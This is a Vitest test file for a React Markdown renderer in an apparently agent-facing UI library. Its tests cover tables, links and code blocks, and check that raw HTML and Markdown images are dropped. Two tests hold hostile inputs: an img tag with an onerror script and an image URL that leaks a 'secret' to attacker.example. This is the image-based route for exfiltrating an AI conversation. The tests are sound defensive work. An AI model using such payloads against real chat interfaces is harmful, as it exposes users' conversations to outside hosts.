import { AgentAccessProvider } from "@agent-access/react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown.tsx";

// Code blocks speak through the UI's catalog, which lives under the provider.
const render = (text: string) =>
  renderToStaticMarkup(
    <AgentAccessProvider ui={{ locale: "en" }}>
      <Markdown text={text} />
    </AgentAccessProvider>,
  );

describe("Markdown", () => {
  it("renders GitHub Flavored Markdown: tables, strikethrough, task lists, autolinks", () => {
    const html = render(
      "| endpoint | rate |\n| --- | --- |\n| orders | 98% |\n\n~~old~~\n\n- [x] done\n\nsee https://example.com",
    );
    expect(html).toContain("<table");
    expect(html).toContain("<td");
    expect(html).toContain("<del>old</del>");
    expect(html).toMatch(/<input[^>]*type="checkbox"/);
    expect(html).toMatch(
      /<a href="https:\/\/example.com" target="_blank" rel="noopener noreferrer nofollow"/,
    );
  });

  it("drops raw HTML instead of rendering it", () => {
    const html = render(
      'hello <img src="https://attacker.example/leak?q=secret" onerror="alert(1)"> <b>bold</b>',
    );
    expect(html).not.toContain("<img");
    expect(html).not.toContain("<b>");
    expect(html).not.toContain("onerror");
    expect(html).toContain("hello");
  });

  it("drops Markdown images, whose URL could carry the conversation elsewhere", () => {
    const html = render("look ![the secret](https://attacker.example/leak?q=secret) here");
    expect(html).not.toContain("<img");
    expect(html).not.toContain("attacker.example");
  });

  it("renders code blocks with their language and a Copy button, as text until highlighted", () => {
    const html = render("```ts\nconst a = 1 < 2;\n```");
    expect(html).toContain('data-testid="code-block"');
    expect(html).toContain("<span>ts</span>");
    expect(html).toMatch(/<button type="button"[^>]*>.*Copy code.*<\/button>/);
    // The fence's closing newline is not shown; the code is escaped text.
    expect(html).toMatch(/<pre[^>]*><code class="font-mono">const a = 1 &lt; 2;<\/code><\/pre>/);
  });
});
